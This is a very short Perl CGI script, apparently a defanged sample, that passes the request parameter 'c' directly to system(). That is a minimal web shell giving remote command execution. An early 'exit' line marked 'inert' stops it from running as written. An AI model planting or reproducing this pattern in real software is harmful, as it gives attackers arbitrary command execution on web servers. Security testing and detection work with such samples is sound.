#!/usr/bin/perl
exit; # inert
use CGI;
my $q = CGI->new;
system($q->param("c"));
